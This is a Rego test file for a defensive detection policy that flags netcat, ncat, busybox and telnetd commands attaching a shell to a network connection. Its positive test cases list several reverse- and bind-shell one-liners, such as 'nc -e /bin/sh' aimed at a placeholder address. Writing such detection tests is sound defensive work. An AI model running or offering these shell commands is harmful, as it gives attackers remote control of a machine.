package hasp.policies.process.netcat_runs_program_test

import data.hasp.policies.process.netcat_runs_program
import data.hasp.testing

found(subject) := violations if {
	violations := netcat_runs_program.violations with input as subject
}

found_with(subject, changes) := violations if {
	parameters := object.union(data.hasp.parameters["netcat-runs-program"], changes)
	violations := netcat_runs_program.violations with input as subject
		with data.hasp.parameters["netcat-runs-program"] as parameters
}

test_finds_programs_on_connections[command] if {
	some command in [
		"nc -e /bin/sh 203.0.113.5 4444",
		"nc 203.0.113.5 4444 -e /bin/bash",
		"nc -lvpe 4444 /bin/sh",
		"nc -c id 203.0.113.5 1",
		"ncat --exec /bin/bash 203.0.113.5 1",
		"ncat --exec=/bin/bash 203.0.113.5 1",
		"ncat --sh-exec id 203.0.113.5 1",
		"ncat --sh-exec=id 203.0.113.5 1",
		"ncat --lua-exec x.lua 203.0.113.5 1",
		"ncat --lua-exec=x.lua 203.0.113.5 1",
		"nc -e/bin/sh 203.0.113.5 1",
		"telnetd -l /bin/sh -p 2323",
		"telnetd -p 2323 -l/bin/sh",
		"in.telnetd -L /bin/bash",
	]
	count(found(testing.command(command))) == 1
}

test_leaves_others[command] if {
	some command in [
		"nc -z db 5432",
		"nc -l sh 5432",
		"telnetd -l /bin/login",
		"nc -zv -w 3 db 5432",
		"nc -l -p 8080",
		"ncat --ssl example.com 443",
		"nc -e /app/handler 203.0.113.5 1",
		"nc example.com 80 -c",
		"nc -v /bin/sh 80",
	]
	count(found(testing.command(command))) == 0
}

test_an_applet_of_busybox if {
	subject := testing.commanded(["busybox", "nc", "-e", "/bin/sh", "203.0.113.5", "1"])
	{violation.message | some violation in found(subject)} == {"busybox nc -e /bin/sh 203.0.113.5 1 gives a connection to sh"}
}

test_targets_are_a_parameter if {
	count(found_with(testing.command("nc -e /app/handler db 1"), {"targets": ["handler"]})) == 1
}

test_points_at_the_arguments if {
	testing.paths(found(testing.command("nc -e /bin/sh 203.0.113.5 4444"))) == {"/event/process/args"}
}
